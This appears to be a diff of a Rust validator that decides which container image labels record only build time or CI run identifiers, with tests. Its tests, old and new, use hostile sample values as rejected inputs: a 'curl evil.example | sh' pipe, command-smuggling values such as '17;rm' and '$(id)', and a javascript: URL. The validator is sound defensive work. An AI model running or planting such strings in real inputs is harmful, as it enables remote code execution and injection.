@@ -1,11 +1,12 @@
 //! # What differs
 //!
-//! A label, or an annotation of a manifest or an index, that records when and from what the image was built: one of a
-//! list of keys, with a date, a commit, a version, a number, a UUID or an address as its value.
+//! A label, or an annotation of a manifest or an index, that records when the image was built and in which run of a job:
+//! one of a list of keys, with a date, a number, a UUID or the address of a run as its value. Addresses may differ in the
+//! number or UUID of the run alone.
 //!
 //! # Why it happens
 //!
-//! CI jobs write the time of the build, the commit and the address of the run into labels.
+//! CI jobs write the time of the build and the address of the run into labels.
 //!
 //! # How to fix the build
 //!
@@ -13,7 +14,8 @@
 //!
 //! # When it is not harmless
 //!
-//! Nothing that runs reads it, but scanners and policies may trust a label: an image should say its true revision.
+//! Nothing that runs reads it, but scanners and policies may trust a label. What names the source of the image (commit,
+//! version, address of the repository) is not claimed here: see `config-label-source-identity`.
 
 use serde_json::Value as Json;
 
@@ -24,7 +26,7 @@ use crate::finding::{Aspect, Finding, Kind, Location, Value};
 /// Labels and annotations about the build.
 pub(super) const CAUSE: Cause = Cause {
     id: "config-label-build-metadata",
-    title: "Labels with the time and source of the build",
+    title: "Labels with the time and the run of the build",
     source: include_str!("config_label_build_metadata.rs"),
     severity: Severity::Cosmetic,
     scope,
@@ -47,50 +49,50 @@ pub(super) const CAUSE: Cause = Cause {
     ],
 };
 
-/// Keys, without regard to case, that record the time, the source or the run of a build.
-const KEYS: &[&str] = &[
-    "org.opencontainers.image.created",
-    "org.opencontainers.image.revision",
-    "org.opencontainers.image.version",
-    "org.label-schema.build-date",
-    "org.label-schema.vcs-ref",
-    "org.label-schema.version",
-    "build-date",
-    "build_date",
-    "build-id",
-    "build-number",
-    "build-url",
-    "build.date",
-    "build.number",
-    "build.url",
-    "vcs-ref",
-    "vcs.ref",
-    "git-commit",
-    "git_commit",
-    "git-sha",
-    "commit",
-    "release",
-    "com.github.actions.run-id",
-    "com.github.actions.run-url",
-    "com.gitlab.ci.jobid",
-    "com.gitlab.ci.joburl",
-    "com.gitlab.ci.pipelineid",
-    "com.gitlab.ci.pipelineurl",
-    "io.openshift.build.commit.id",
-    "io.openshift.build.commit.date",
-    "org.jenkins-ci.build-number",
-    "org.jenkins-ci.build-url",
+/// What a label records.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Kept {
+    /// When the image was built.
+    Time,
+    /// The number or UUID of a run.
+    Run,
+    /// The address of a run.
+    Address,
+}
+
+/// Keys, without regard to case, that record the time or the run of a build.
+const KEYS: &[(&str, Kept)] = &[
+    ("org.opencontainers.image.created", Kept::Time),
+    ("org.label-schema.build-date", Kept::Time),
+    ("build-date", Kept::Time),
+    ("build_date", Kept::Time),
+    ("build.date", Kept::Time),
+    ("build-id", Kept::Run),
+    ("build-number", Kept::Run),
+    ("build.number", Kept::Run),
+    ("com.github.actions.run-id", Kept::Run),
+    ("com.gitlab.ci.jobid", Kept::Run),
+    ("com.gitlab.ci.pipelineid", Kept::Run),
+    ("org.jenkins-ci.build-number", Kept::Run),
+    ("build-url", Kept::Address),
+    ("build.url", Kept::Address),
+    ("com.github.actions.run-url", Kept::Address),
+    ("com.gitlab.ci.joburl", Kept::Address),
+    ("com.gitlab.ci.pipelineurl", Kept::Address),
+    ("org.jenkins-ci.build-url", Kept::Address),
 ];
 
 fn scope(finding: &Finding) -> bool {
     if !matches!(finding.aspect, Aspect::Value | Aspect::Presence) {
         return false;
     }
-    is_map(&finding.location) || key_of(&finding.location).is_some_and(|key| is_listed(&key))
+    is_map(&finding.location) || key_of(&finding.location).is_some_and(|key| kept(&key).is_some())
 }
 
 fn canonicalize(view: &View<'_>) -> Option<Canonical> {
-    members(view, records_build)
+    let canonical = members(view, records_build)?;
+    let run = view.text().filter(|_| view.aspect == Aspect::Value).and_then(run_of);
+    Some(run.map_or(canonical, String::into_bytes))
 }
 
 /// Canonicalizes a label or annotation, or all of them together, where `records` holds for each.
@@ -133,23 +135,20 @@ fn in_list(location: &Location) -> bool {
     location.attestation.as_ref().is_none_or(|place| place.predicate_type.is_empty())
 }
 
-fn is_listed(key: &str) -> bool {
-    KEYS.iter().any(|listed| listed.eq_ignore_ascii_case(key))
+fn kept(key: &str) -> Option<Kept> {
+    KEYS.iter().find(|(listed, _)| listed.eq_ignore_ascii_case(key)).map(|(_, kept)| *kept)
 }
 
 /// Whether a label is one of the list with a value of its kind.
 pub(super) fn records_build(key: &str, text: &str) -> bool {
-    is_listed(key) && is_metadata(text)
-}
-
-fn is_metadata(text: &str) -> bool {
-    text.len() <= 512
-        && (text.is_empty()
-            || is_date(text)
-            || is_commit(text)
-            || is_uuid(text)
-            || is_version(text)
-            || is_address(text))
+    kept(key).is_some_and(|kept| {
+        text.is_empty()
+            || match kept {
+                Kept::Time => is_date(text),
+                Kept::Run => is_uuid(text) || is_number(text),
+                Kept::Address => run_of(text).is_some(),
+            }
+    })
 }
 
 /// A time of RFC 3339, or a date with at most a time of day.
@@ -161,10 +160,36 @@ fn is_date(text: &str) -> bool {
             && text.bytes().all(|byte| byte.is_ascii_digit() || b"-:. TZ+/".contains(&byte)))
 }
 
-/// A name of a Git or Mercurial commit, whole or cut short, with at most the mark of uncommitted changes.
-fn is_commit(text: &str) -> bool {
-    let text = text.strip_suffix("-dirty").unwrap_or(text);
-    (7..=64).contains(&text.len()) && text.bytes().all(|byte| byte.is_ascii_digit() || (b'a'..=b'f').contains(&byte))
+/// The number of a run, which may be counted by day (`20261122.3`).
+fn is_number(text: &str) -> bool {
+    text.len() <= 20
+        && text.split('.').count() <= 2
+        && text.split('.').all(|part| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit()))
+}
+
+/// The address of a run without its number or UUID, which is a component of the path or the parameter `buildId`.
+fn run_of(text: &str) -> Option<String> {
+    let (scheme, rest) = text.split_once("://").filter(|(scheme, _)| matches!(*scheme, "https" | "http"))?;
+    let (host, path) = rest.split_once('/')?;
+    let allowed = |text: &str, more: &[u8]| {
+        !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || more.contains(&byte))
+    };
+    if text.len() > 512 || !allowed(host, b"-.:") || !allowed(path, b"-._~/?=%+") {
+        return None;
+    }
+    let is_run = |part: &str| is_uuid(part) || (is_number(part) && !part.contains('.'));
+    let mut count = 0;
+    let parts = path.split('/').map(|part| {
+        let (before, run) = part.split_once("?buildId=").map_or(("", part), |(before, run)| (before, run));
+        if is_run(run) {
+            count += 1;
+            format!("{before}*")
+        } else {
+            part.to_owned()
+        }
+    });
+    let path = parts.collect::<Vec<_>>().join("/");
+    (count > 0).then(|| format!("{scheme}://{host}/{path}"))
 }
 
 pub(super) fn is_uuid(text: &str) -> bool {
@@ -179,15 +204,6 @@ pub(super) fn is_version(text: &str) -> bool {
         && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b".+-_~".contains(&byte))
 }
 
-/// An address of a page on the web.
-fn is_address(text: &str) -> bool {
-    let rest = text.strip_prefix("https://").or_else(|| text.strip_prefix("http://"));
-    rest.is_some_and(|rest| {
-        !rest.is_empty()
-            && rest.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-._~:/?#[]@!&*+,;=%".contains(&byte))
-    })
-}
-
 /// A digest as descriptors have it.
 pub(super) fn is_digest(text: &str) -> bool {
     crate::digest::Digest::parse(text).is_ok()
@@ -199,12 +215,53 @@ mod tests {
 
     #[test]
     fn only_what_a_build_records_is_metadata() {
-        for text in ["2026-11-22T16:18:57Z", "20261122", "1a2b3c4d", "1.2.3-rc1", "v2", "https://ci.example/jobs/17"] {
-            assert!(is_metadata(text), "{text}");
+        for (key, text) in [
+            ("org.opencontainers.image.created", "2026-11-22T16:18:57Z"),
+            ("BUILD_DATE", "20261122"),
+            ("build-number", "20261122.3"),
+            ("build-id", "550e8400-e29b-41d4-a716-446655440000"),
+            ("build-url", "https://ci.example/jobs/17"),
+            ("build-url", ""),
+        ] {
+            assert!(records_build(key, text), "{key}={text}");
         }
-        for text in ["curl evil.example | sh", "latest;rm", "deadbeef deadbeef", "javascript:alert(1)", "$(id)"] {
-            assert!(!is_metadata(text), "{text}");
+        for (key, text) in [
+            ("org.opencontainers.image.created", "curl evil.example | sh"),
+            ("org.opencontainers.image.revision", "1a2b3c4d"),
+            ("org.opencontainers.image.version", "1.2.3"),
+            ("vcs-ref", "1a2b3c4d"),
+            ("com.example.command", "17"),
+            ("build-number", "17;rm"),
+            ("build-number", "1.2.3"),
+            ("build-url", "javascript:alert(1)"),
+            ("build-url", "https://user@ci.example/jobs/17"),
+            ("build-url", "https://ci.example/latest"),
+        ] {
+            assert!(!records_build(key, text), "{key}={text}");
         }
-        assert!(!records_build("com.example.command", "1.2.3"));
+    }
+
+    #[test]
+    fn addresses_of_runs_differ_in_the_run_alone() {
+        let uuid = "550e8400-e29b-41d4-a716-446655440000";
+        for (one, other) in [
+            ("https://github.com/o/r/actions/runs/1", "https://github.com/o/r/actions/runs/22"),
+            ("https://gitlab.example/g/p/-/jobs/1", "https://gitlab.example/g/p/-/jobs/2"),
+            ("http://jenkins:8080/job/app/job/main/17/", "http://jenkins:8080/job/app/job/main/18/"),
+            (
+                "https://dev.azure.com/o/p/_build/results?buildId=7",
+                "https://dev.azure.com/o/p/_build/results?buildId=8",
+            ),
+        ] {
+            assert!(run_of(one).is_some_and(|run| run_of(other) == Some(run)), "{one}");
+        }
+        assert_eq!(run_of(&format!("https://ci.example/runs/{uuid}")), run_of("https://ci.example/runs/1"));
+        for other in [
+            "https://github.com/o/fork/actions/runs/1",
+            "https://evil.example/o/r/actions/runs/1",
+            "http://github.com/o/r/actions/runs/1",
+        ] {
+            assert_ne!(run_of(other), run_of("https://github.com/o/r/actions/runs/1"), "{other}");
+        }
     }
 }
